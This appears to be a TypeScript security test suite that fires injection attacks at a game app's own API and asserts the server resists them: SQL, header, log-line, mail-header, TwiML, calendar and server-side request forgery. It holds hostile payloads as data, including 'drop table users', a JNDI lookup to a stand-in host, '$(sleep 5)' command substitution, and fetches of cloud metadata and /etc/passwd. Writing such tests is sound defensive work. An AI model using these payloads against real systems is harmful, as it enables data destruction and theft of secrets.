/** Text that is code for whatever reads it next: SQL, a header, a log, a mail, TwiML, a template, a calendar. */
import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PASSWORD } from '../../api.js';
import { twilioSignature } from '../../twilio.js';
import { eventually } from '../../wait.js';
import type { Attack, Family } from '../attack.js';
import type { HttpRequest } from '../http.js';
import { assertEqual, assertNoServerError, assertStatus, assertThat } from '../assertions.js';
import type { Target } from '../target.js';
import { bindPhone, freshNonce } from '../steps.js';

const SQL = [
  "' or '1'='1",
  "'; drop table users; --",
  "' union select password_hash from users --",
  '") or 1=1 --',
  '1; select pg_sleep(5)',
  "\\'; select 1 --",
  '${jndi:ldap://elsewhere.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '$(sleep 5)',
  '`sleep 5`',
  '%27%20or%201=1',
  '\u2019 or 1=1',
];

/** Every call that uses the caller's text in a query. */
const QUERIES: readonly ((text: string, target: Target) => HttpRequest)[] = [
  (text) => ({ path: '/api/auth/login', body: { email: text, password: text } }),
  (text) => ({ path: '/api/auth/reset-password', body: { token: text, password: 'embers-glow-on' } }),
  (text) => ({ path: `/api/castaways/${encodeURIComponent(text)}` }),
  (text) => ({ path: `/api/calendar/${encodeURIComponent(text)}.ics` }),
  (text, { attacker }) => ({
    path: `/api/feedback/check/${encodeURIComponent(text)}`,
    token: attacker.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/audit?action=${encodeURIComponent(text.slice(0, 80))}&limit=5`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/audit?actor=${encodeURIComponent(text)}&before=${encodeURIComponent(text)}`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/feedback?surveyType=${encodeURIComponent(text)}`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/analytics/head-to-head?user1=${encodeURIComponent(text)}&user2=x`,
    token: admin.token,
  }),
  (text, { admin }) => ({ path: `/api/sms/logs?limit=${encodeURIComponent(text)}`, token: admin.token }),
  (text, { admin }) => ({
    path: '/api/sms/blast/estimate',
    token: admin.token,
    body: { recipientFilter: 'custom', customRecipients: [text] },
  }),
];

const sqlInQueries: readonly Attack[] = SQL.map((text) => ({
  name: `put SQL into a query: ${text}`,
  run: async (target: Target) => {
    const users = (await target.admin.client.listUsers()).length;
    for (const make of QUERIES) {
      const one = make(text, target);
      const startedAt = performance.now();
      const response = await target.send({ ...one, from: target.freshAddress() });
      assertNoServerError(response, one.path);
      assertThat(performance.now() - startedAt < 4_500, `${one.path} took too long`);
      // Nothing has that name; only the audit log returns an empty list.
      const found = response.status === 200 ? (response.json as { entries?: unknown[] }).entries : [];
      assertEqual(found, [], `entries in ${one.path}`);
    }
    assertEqual((await target.admin.client.listUsers()).length, users, 'number of accounts afterwards');
  },
}));

const sqlInStore: Attack = {
  name: 'store SQL in a text',
  run: async (target) => {
    const who = await target.newPlayer('bobby');
    const { name, email, username } = await who.client.getOwnUser();
    for (const text of SQL) {
      // Other fields refuse web addresses, and some of these texts look like one.
      const user = await who.client.updateProfile({ body: { name, email, username, about: text } });
      assertEqual(user.about, text, 'the stored text');
    }
  },
};

const headers: Attack = {
  name: 'inject a header into a response',
  run: async ({ send, attacker }) => {
    const evil = '%0d%0aSet-Cookie:%20evil=1%0d%0aX-Evil:%201';
    const paths = [
      `/api/castaways/x${evil}`,
      `/login?next=${evil}`,
      `/api/calendar/${'x'.repeat(20)}${evil}.ics`,
      `/assets/${evil}`,
      `/api/pictures/${evil}`,
      `/${evil}`,
    ];
    for (const path of paths) {
      for (const method of ['GET', 'OPTIONS', 'PUT']) {
        const response = await send({ method, path, token: attacker.token });
        assertNoServerError(response, path);
        const headers = JSON.stringify(response.headers);
        assertThat(
          response.headers['x-evil'] === undefined && !headers.includes('evil=1'),
          `${path}: ${headers}`,
        );
      }
    }
    const id = 'a'.repeat(8);
    const { headers: echoed } = await send({
      path: '/api/castaways',
      headers: { 'x-request-id': `${id} <b>` },
    });
    assertThat(!String(echoed['x-request-id']).includes('<b>'), 'the request id was not sanitized');
  },
};

const MARK = 'forged-log-line';

const logLines: Attack = {
  name: 'forge a log line',
  run: async ({ send, logDir, freshAddress }) => {
    const line = `x\n{"level":"error","msg":"${MARK}"}\r\n{"level":50,"msg":"${MARK}"}`;
    const encoded = encodeURIComponent(line);
    const from = freshAddress();
    await send({ path: '/api/auth/login', body: { email: line, password: line }, from });
    await send({ path: '/api/auth/forgot-password', body: { email: `${line}@x.example` }, from });
    await send({ path: `/api/castaways/${encoded}?q=${encoded}`, from });
    await send({ path: '/api/castaways', headers: { 'user-agent': encoded, referer: encoded }, from });
    await send({ path: '/api/castaways', headers: { traceparent: `00-${encoded}-x-01` }, from });
    const logs = (await readdir(logDir)).filter((name) => name.endsWith('.log') && name !== 'twilio.log');
    assertThat(logs.length >= 9, `there are only ${logs.length} logs`);
    for (const name of logs) {
      for (const one of (await readFile(join(logDir, name), 'utf8')).split('\n')) {
        if (!one.includes(MARK) || !one.startsWith('{')) continue;
        const { msg } = JSON.parse(one) as { msg?: unknown };
        assertThat(msg !== MARK, `${name} contains a forged line`);
      }
    }
  },
};

const secretsInLogs: Attack = {
  name: 'find a password, a token or a phone number in a log',
  run: async ({ send, logDir, newPlayer, freshAddress, ...target }) => {
    const who = await newPlayer('careful');
    const password = 'never-to-be-logged-1';
    const from = freshAddress();
    await send({ path: '/api/auth/login', body: { email: who.email, password }, from });
    await send({ path: '/api/auth/reset-password', body: { token: 'never-to-be-logged-2', password }, from });
    const phone = await bindPhone({ send, logDir, newPlayer, freshAddress, ...target }, who);
    const { token: link } = await who.client.renewCalendarToken();
    await send({ path: `/api/calendar/${link}.ics` });
    await send({ path: '/api/auth/me', token: who.token });
    // Mailed links, which browsers open with the token in the query.
    const mailed = 'never-to-be-logged-3';
    for (const page of ['reset-password', 'confirm-email', 'revert-email']) {
      await send({ path: `/${page}?token=${mailed}`, headers: { referer: `/${page}?token=${mailed}` } });
      await send({ path: `/api/auth/${page}?token=${mailed}`, body: { token: mailed, password }, from });
    }
    const secrets = [password, 'never-to-be-logged-2', mailed, PASSWORD, who.token, who.email, phone, link];
    for (const name of (await readdir(logDir)).filter(
      (one) => one.endsWith('.log') && one !== 'twilio.log',
    )) {
      const text = await readFile(join(logDir, name), 'utf8');
      assertEqual(
        secrets.filter((secret) => text.includes(secret)),
        [],
        `secrets in ${name}`,
      );
    }
  },
};

const mailHeaders: Attack = {
  name: 'add a header, a recipient or text to our mails',
  run: async ({ send, mailbox, freshAddress, freshWord, newPlayer }) => {
    const evil = [
      'x\r\nBcc: spam@elsewhere.example',
      'x\nSubject: Buy now',
      'x%0d%0aBcc: spam@elsewhere.example',
    ];
    const from = freshAddress();
    for (const text of evil) {
      const body = { email: `${text}@example.com`, name: text, username: text, password: PASSWORD };
      assertNoServerError(await send({ path: '/api/auth/signup', body, from }), 'signing up');
      const email = `${freshWord('mailed')}@example.com`;
      assertNoServerError(
        await send({ path: '/api/auth/signup', body: { ...body, email }, from }),
        'signing up',
      );
      assertNoServerError(await send({ path: '/api/auth/forgot-password', body: { email }, from }));
      for (const both of [`${email}\r\nBcc: spam@elsewhere.example`, `${email}, spam@elsewhere.example`]) {
        assertNoServerError(await send({ path: '/api/auth/forgot-password', body: { email: both }, from }));
      }
    }
    // Mails are sent in order: this one arrives after all others.
    const { email } = await newPlayer();
    await send({ path: '/api/auth/forgot-password', body: { email }, from });
    await eventually(() =>
      assertThat(
        mailbox.mails.some(({ to }) => to === email),
        'no mail arrived',
      ),
    );
    for (const { to, text } of mailbox.mails) {
      assertThat(!to.includes('elsewhere.example') && !to.includes(','), `a mail went to ${to}`);
      const [head = ''] = text.split('\r\n\r\n');
      assertThat(!/^bcc:|^subject: buy/im.test(head), `a mail has the headers ${head}`);
    }
  },
};

const twiml: Attack = {
  name: 'add TwiML elements to the reply to a text',
  run: async (target) => {
    const who = await target.newPlayer('caller');
    const phone = await bindPhone(target, who);
    const evil = '<Redirect>https://elsewhere.example</Redirect><Dial>+19005550123</Dial>&xxe;]]>';
    for (const Body of [evil, `PICK ${evil}`, `TORCH ${evil}`, `HELP\u0000${evil}`]) {
      const fields = { From: phone, Body, MessageSid: `SM${target.freshWord('sid')}` };
      const path = '/api/sms/webhook';
      const signature = twilioSignature(target.twilioToken, target.url + path, fields);
      const response = await target.send({
        path,
        body: new URLSearchParams(fields),
        headers: { 'x-twilio-signature': signature },
      });
      assertNoServerError(response, Body);
      assertThat(!/<(Redirect|Dial)|&xxe/.test(response.text), `the reply was ${response.text}`);
      const elements = [...response.text.matchAll(/<\/?([A-Za-z]+)/g)].map(([, name]) => name);
      assertEqual(
        elements.filter((name) => !['Response', 'Message', 'Body'].includes(name ?? '')),
        [],
        `unexpected elements in the reply ${response.text}`,
      );
    }
  },
};

const placeholders: Attack = {
  name: 'use a placeholder or a replacement pattern as a name',
  run: async (target) => {
    const who = await target.newPlayer('placeholder');
    const { email, username } = await who.client.getOwnUser();
    const name = '{castaway}$&$1$`{deadline}';
    await who.client.updateProfile({ body: { name, email, username } });
    const phone = await bindPhone(target, who);
    const received = () => target.twilio.receivedBy(phone);
    // The sms service receives the name as an event: the first texts may still have the old one.
    await eventually(async () => {
      await target.admin.client.sendBlast({
        body: { message: 'Hello <{name}>.', recipientFilter: 'custom', customRecipients: [who.id] },
      });
      await target.twilio.settled();
      assertThat(
        received().some((text) => text.includes(`Hello <${name}>.`)),
        `the phone received ${JSON.stringify(received())}`,
      );
    }, 10_000);
  },
};

const calendar: Attack = {
  name: 'add an event to the calendars of all players',
  run: async ({ send, admin, victim }) => {
    const { name } = await admin.client.getSeason();
    const evil = 'Season\r\nBEGIN:VEVENT\r\nSUMMARY:Owned\r\nEND:VEVENT';
    const put = (text: string) =>
      send({ method: 'PUT', path: '/api/admin/season', token: admin.token, body: { name: text } });
    assertNoServerError(await put(evil));
    const { token } = await victim.client.renewCalendarToken();
    const { text } = await send({ path: `/api/calendar/${token}.ics` });
    await put(name);
    assertThat(!/^SUMMARY:Owned/m.test(text), 'the calendar contains the event');
  },
};

/** A server that counts requests, to check that nothing is fetched from it. */
async function startBait(): Promise<{ readonly url: string; hits(): number; stop(): void }> {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${port}/bait.png`, hits: () => hits, stop };
}

const requestForgery: Attack = {
  name: 'make the server fetch an address',
  run: async ({ send, admin, issuer, mailbox, freshAddress, freshWord, newPlayer }) => {
    const bait = await startBait();
    const castaway = (name: string, imageUrl: string) =>
      send({ path: '/api/admin/castaway', token: admin.token, body: { name, imageUrl } });
    try {
      // Checks that it counts requests.
      await fetch(bait.url);
      assertEqual(bait.hits(), 1, 'requests to the bait');
      for (const imageUrl of [bait.url, 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd']) {
        const response = await castaway(freshWord('bait'), imageUrl);
        assertNoServerError(response, imageUrl);
        assertThat(!/root:|ami-id/.test(response.text), 'the server fetched the address');
        if (imageUrl === bait.url) assertStatus(response, 201, 'creating the castaway');
        const { id } = (response.json ?? {}) as { id?: string };
        if (id === undefined) continue;
        // Read it as a page would, and delete it again.
        assertStatus(await send({ path: `/api/castaways/${id}` }), 200, 'reading the castaway');
        const removal = { method: 'DELETE', path: `/api/admin/castaway/${id}`, token: admin.token };
        assertStatus(await send(removal), 204, 'deleting the castaway');
      }
      const sub = freshWord('pictured');
      const person = { email: `${sub}@example.com`, name: 'Pictured', picture: bait.url };
      const nonce = await freshNonce({ send, freshAddress });
      const token = await issuer.idToken({ ...person, sub, nonce });
      const signIn = { path: '/api/auth/auth0-login', body: { ...person, token }, from: freshAddress() };
      assertStatus(await send(signIn), 200, 'signing in by the identity provider');
      // Background work is done in order: when this mail arrives, everything before it has run.
      const { email } = await newPlayer();
      await send({ path: '/api/auth/forgot-password', body: { email }, from: freshAddress() });
      await eventually(() =>
        assertThat(
          mailbox.mails.some(({ to }) => to === email),
          'no mail arrived',
        ),
      );
      assertEqual(bait.hits(), 1, 'requests to the bait afterwards');
    } finally {
      bait.stop();
    }
  },
};

export const injection: Family = {
  name: 'injection',
  attacks: [
    ...sqlInQueries,
    sqlInStore,
    headers,
    logLines,
    secretsInLogs,
    mailHeaders,
    twiml,
    placeholders,
    calendar,
    requestForgery,
  ],
};
